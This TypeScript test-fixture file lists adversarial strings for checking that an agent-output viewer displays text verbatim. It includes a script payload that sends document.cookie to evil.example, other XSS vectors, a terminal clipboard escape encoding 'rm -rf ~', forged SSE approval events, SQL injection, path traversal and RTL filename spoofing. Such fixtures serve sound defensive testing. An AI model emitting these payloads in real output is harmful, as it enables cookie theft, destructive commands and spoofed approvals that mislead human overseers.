/** @file Which texts want to be something else than text? The same that the tests of the server use, and larger ones. */

/** Each of them is a text that an agent may say, and has to be shown as it is. */
export const TEXTS = [
  "<script>fetch('//evil.example/'+document.cookie)</script>",
  "<img src=x onerror=alert(1)>\"'`&lt;</textarea></title>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe><style>*{display:none}</style>",
  "javascript:alert(1)",
  "https://evil.example/\"onmouseover='alert(1)' data:text/html,<script>alert(1)</script>",
  "\u001b[2J\u001b[1;1Happroved\u001b[0m",
  "\u001b]52;c;cm0gLXJmIH4=\u0007",
  "\u001b]0;title\u001b\\\u001bP0;0|\u001b\\",
  "\u009b31m\u009d52;c;eA==\u009c\u0085\u008d",
  "user\u202etxt.exe\u202c\u2066isolate\u2069\u200f",
  "zero\u200bwidth\u200d\ufeff\u2060\u00ad\u{e0041}",
  "a\rb\nc\r\nd\u0000e\tf\u000b\u000c\u0008\u007f",
  '\n\ndata: {"seq":9}\nid: 0123456789abcdef-9\nevent: reset\n\n',
  "\r\ndata: x\r\rid: 9\r\r",
  '"},{"seq":1,"kind":"approval_resolved"',
  '{"kind":"sent"}\n{"kind":"sent"}',
  '\\u0000\\ud800\\\\ \\" \\/ \\n',
  "\u2028paragraph\u2029",
  "🐝👩‍👩‍👧‍👦🏳️‍🌈 grün 漢字 ﷽ e\u0301\u0301\u0301",
  `z${"\u0301".repeat(200)}algo`,
  "\ufffd\uffff\u{10ffff}\ufdd0",
  "'; DROP TABLE events; --",
  "%s%n%00../../etc/passwd$(id)`id`",
  "__proto__",
  "constructor",
  "-1",
  "null",
  " leading and trailing ",
  "A".repeat(64 << 10),
  "\0".repeat(10 << 10),
  "𝕏".repeat(1 << 14),
];

/** As large as the server takes them. */
export const HUGE = "<b>mega</b> ".repeat(75_000);
export const LINES = Array.from({ length: 10_000 }, (_, n) => `line ${n}`).join("\n");

/** What a page that keys its own objects with the words of others falls over. */
export const WORDS = ["constructor", "then", "tostring", "valueof", "hasownproperty", "prototype"];
export const MEMBERS = ["__proto__", "constructor", "toString", "then", "hasOwnProperty", "innerHTML", ""];

/** Diffs that are none, or end in the middle, or count wrong. */
export const DIFFS = [
  "no diff at all\n+but a plus\n-and a minus\n",
  "--- a/x\n+++ b/x\n@@ -1,99 +1,99 @@\n-ends before its time\n",
  "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-one\n+two\n+three\n-four\n--- a\n+++ b\n",
  "@@ -0,0 +1 @@\n+no file\n@@\n+no numbers\n@@@ -1,2 -1,2 +1,3 @@@\n++merged\n",
  "@@ -999999999999999999999 +1 @@\n+huge\n",
  "diff --git a/__proto__ b/constructor\nnew file mode 100755\n--- /dev/null\n+++ b/x\u202egpj.exe\n@@ -0,0 +1 @@\n+x\u200by\r\n",
  "Binary files a/x and b/y differ\n\\ No newline at end of file\n",
  "+++ b/only\n",
  "\n\n\n",
];

/** Characters that are not seen, or change how others are seen; a line feed or a tab is what it is. */
export const HIDDEN =
  "[\\0-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f-\\x9f\\xad\\u061c\\u200b\\u200c\\u200e\\u200f\\u2028-\\u202e\\u2060-\\u206f\\ufeff\\u{e0000}-\\u{e0fff}]|\\r(?!\\n)";
